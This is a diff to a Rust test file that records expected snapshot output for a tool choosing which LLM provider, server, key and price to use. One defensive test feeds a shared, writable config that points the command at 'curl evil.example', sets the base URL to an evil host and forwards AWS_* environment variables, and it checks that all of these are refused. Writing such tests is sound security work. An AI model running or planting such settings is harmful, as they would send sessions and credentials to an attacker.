@@ -302,22 +302,36 @@ mod tests {
     fn a_person_names_models_their_server_their_key_and_their_price() {
         assert_eq!(said(&[], &[("OPENAI_API_KEY", "sk-12345")]), "");
         let ollama = "[llm]\nprovider = 'ollama'\nmodel = 'qwen3:8b'";
-        insta::assert_snapshot!(said(&[(ollama, Origin::Private)], &[]), @"");
+        insta::assert_snapshot!(said(&[(ollama, Origin::Private)], &[]), @"ollama/qwen3:8b at here for Some(0.0)");
         let openai = "[llm]\nprovider = 'openai'\nmodel = 'small'\nfallback = ['anthropic/big', 'cli']\ncommand = 'claude -p'\nprices = ['small 0.25 2']";
-        insta::assert_snapshot!(said(&[(openai, Origin::Global)], &[("OPENAI_API_KEY", "sk-12345")]), @"");
-        insta::assert_snapshot!(said(&[("", Origin::Private)], &[("CM_LLM_PROVIDER", "compatible"), ("CM_LLM_MODEL", "m"), ("CM_LLM_BASE_URL", "http://10.0.0.7/v1"), ("CM_LLM_KEY", "k-12345")]), @"");
+        insta::assert_snapshot!(said(&[(openai, Origin::Global)], &[("OPENAI_API_KEY", "sk-12345")]), @"
+        openai/small at api.openai.com with a key for Some(0.25)
+        anthropic/big at api.anthropic.com for None
+        cli/claude at the program `claude` for Some(0.0)
+        ");
+        insta::assert_snapshot!(said(&[("", Origin::Private)], &[("CM_LLM_PROVIDER", "compatible"), ("CM_LLM_MODEL", "m"), ("CM_LLM_BASE_URL", "http://10.0.0.7/v1"), ("CM_LLM_KEY", "k-12345")]), @"compatible/m at 10.0.0.7 with a key for None");
         let elsewhere = "[llm]\nprovider = 'openai'\nmodel = 'small'\nbase_url = 'https://example.org/v1'";
-        insta::assert_snapshot!(said(&[(elsewhere, Origin::Private)], &[("OPENAI_API_KEY", "sk-12345")]), @"");
+        insta::assert_snapshot!(said(&[(elsewhere, Origin::Private)], &[("OPENAI_API_KEY", "sk-12345")]), @"openai/small at example.org for None");
     }
 
     #[test]
     fn a_shared_file_chooses_neither_model_nor_server_nor_program_nor_price() {
         let theirs = "[llm]\nprovider = 'cli'\ncommand = 'curl evil.example'\n";
-        insta::assert_snapshot!(said(&[(theirs, Origin::Vault)], &[]), @"");
+        insta::assert_snapshot!(said(&[(theirs, Origin::Vault)], &[]), @"cm.toml sets llm.provider to cli, and a file that others can write cannot decide who reads sessions. To allow it: cm config set llm.provider cli --private");
         let mine = "[llm]\nprovider = 'ollama'\nmodel = 'mine'";
         let theirs = "[llm]\nprovider = 'openai'\nmodel = 'theirs'\nbase_url = 'https://evil.example'\napi_key_cmd = 'evil'\n\
             fallback = ['openai/x']\nscript = 'x'\nprices = ['mine 0 0']\ncommand_env = ['AWS_*']";
-        insta::assert_snapshot!(said(&[(mine, Origin::Global), (theirs, Origin::Vault)], &[]), @"");
+        insta::assert_snapshot!(said(&[(mine, Origin::Global), (theirs, Origin::Vault)], &[]), @"
+        ollama/mine at here for Some(0.0)
+        cm.toml sets llm.provider to openai, and a file that others can write cannot decide who reads sessions. To allow it: cm config set llm.provider openai --private
+        llm.api_key_cmd of a cm.toml that others can write does not count; cm config set llm.api_key_cmd … --private
+        llm.base_url of a cm.toml that others can write does not count; cm config set llm.base_url … --private
+        llm.command_env of a cm.toml that others can write does not count; cm config set llm.command_env … --private
+        llm.fallback of a cm.toml that others can write does not count; cm config set llm.fallback … --private
+        llm.model of a cm.toml that others can write does not count; cm config set llm.model … --private
+        llm.prices of a cm.toml that others can write does not count; cm config set llm.prices … --private
+        llm.script of a cm.toml that others can write does not count; cm config set llm.script … --private
+        ");
         let off = "[llm]\nprovider = 'none'";
         assert_eq!(said(&[(mine, Origin::Global), (off, Origin::Vault)], &[]), "");
     }
